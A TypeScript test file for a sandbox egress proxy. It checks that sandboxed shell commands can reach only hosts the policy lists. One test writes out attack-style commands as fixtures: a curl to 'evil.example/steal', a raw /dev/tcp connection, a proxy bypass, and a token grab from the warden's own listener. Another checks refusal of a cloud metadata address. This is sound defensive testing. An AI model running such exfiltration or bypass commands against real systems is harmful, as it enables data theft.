import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { SandboxDirective } from "../../../protocol/src/sandbox";
import { probeSandbox } from "./availability";
import { destination } from "./egress-proxy";
import { prepareCommand } from "./prepare";

/** Runs one command line sandboxed with the given network, as the shell gate does. */
async function runSandboxed(directive: SandboxDirective, wardenHome: string, cwd: string, line: string, refused: string[]): Promise<{ code: number | null; out: string }> {
  const prepared = await prepareCommand(directive, wardenHome, cwd, ["bash", "-c", line], { onRefused: (h) => refused.push(h) });
  try {
    return await new Promise((resolve, reject) => {
      const child = spawn(prepared.file, prepared.args, { stdio: ["ignore", "pipe", "pipe"] });
      let out = "";
      child.stdout.on("data", (d: Buffer) => (out += d.toString()));
      child.stderr.on("data", (d: Buffer) => (out += d.toString()));
      child.on("error", reject);
      child.on("close", (code) => resolve({ code, out }));
    });
  } finally {
    prepared.cleanup();
  }
}

describe("egress through Warden's proxy: only the hosts the policy lists", () => {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "wd-egress-")));
  const wardenHome = path.join(dir, "home");
  const hits: string[] = [];
  const servers: http.Server[] = [];
  const ports: number[] = [];
  let directive: SandboxDirective | null = null;

  before(async () => {
    fs.mkdirSync(wardenHome);
    for (const name of ["allowed", "warden-listener"]) {
      const server = http.createServer((req, res) => {
        hits.push(`${name} ${req.url ?? ""}`);
        res.end(`hello from ${name}\n`);
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const address = server.address();
      ports.push(typeof address === "object" && address !== null ? address.port : 0);
      servers.push(server);
    }
    const available = probeSandbox();
    assert.ok(available.available, "bubblewrap is installed for these tests (scripts/install-hardening.sh)");
    assert.ok(available.launcher.socat !== null, "socat is installed for these tests (scripts/install-hardening.sh)");
    directive = {
      kind: "sandbox",
      launcher: available.launcher,
      profile: { writable: [dir], readOnly: [], absent: [], absentFiles: [], hiddenDirs: [wardenHome], hiddenFiles: [], network: { mode: "proxy", hosts: ["127.0.0.1"], refuse: [`127.0.0.1:${ports[1]}`] } },
    };
  });
  after(() => {
    for (const s of servers) s.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test("a listed host is reached through the proxy, by plain HTTP and by CONNECT", async () => {
    assert.ok(directive !== null);
    const refused: string[] = [];
    const r = await runSandboxed(directive, wardenHome, dir, `curl -sS http://127.0.0.1:${ports[0]}/plain && curl -sS -p http://127.0.0.1:${ports[0]}/tunnel`, refused);
    assert.equal(r.code, 0, r.out);
    assert.equal(r.out, "hello from allowed\nhello from allowed\n");
    assert.deepEqual(hits.splice(0), ["allowed /plain", "allowed /tunnel"]);
    assert.deepEqual(refused, []);
  });

  test("attack: Warden's own listener, an unlisted host and a direct connection get nowhere, and the refusals are told", async () => {
    assert.ok(directive !== null);
    const refused: string[] = [];
    const r = await runSandboxed(
      directive,
      wardenHome,
      dir,
      [
        `curl -sS -p http://127.0.0.1:${ports[1]}/token 2>&1`,
        "curl -sS https://evil.example/steal 2>&1",
        `(exec 3<>/dev/tcp/127.0.0.1/${ports[0]}; printf 'GET /direct HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3) 2>&1`,
        `curl -sS --noproxy '*' http://127.0.0.1:${ports[0]}/bypass 2>&1`,
        "exit 0",
      ].join("\n"),
      refused,
    );
    assert.equal(r.code, 0, r.out);
    assert.deepEqual(hits.splice(0), [], r.out);
    assert.ok(refused.includes("127.0.0.1") && refused.includes("evil.example"), JSON.stringify(refused));
  });

  test("destinations: exact names, wildcards that never reach internal addresses, and the refuse list", async () => {
    const rules = { hosts: ["localhost", "*.localhost", "127.0.0.1"], refuse: ["127.0.0.1:7391"], onRefused: () => undefined };
    assert.deepEqual(await destination("127.0.0.1", 80, rules), { address: "127.0.0.1" });
    assert.ok("refused" in (await destination("127.0.0.1", 7391, rules)));
    assert.ok("refused" in (await destination("other.example", 443, rules)));
    // A wildcard resolving to loopback is refused; only an exact entry reaches an internal address.
    assert.ok("refused" in (await destination("api.localhost", 443, { ...rules, hosts: ["*.localhost"] })));
    assert.ok("refused" in (await destination("169.254.169.254", 80, { ...rules, hosts: ["*"] })));
  });
});
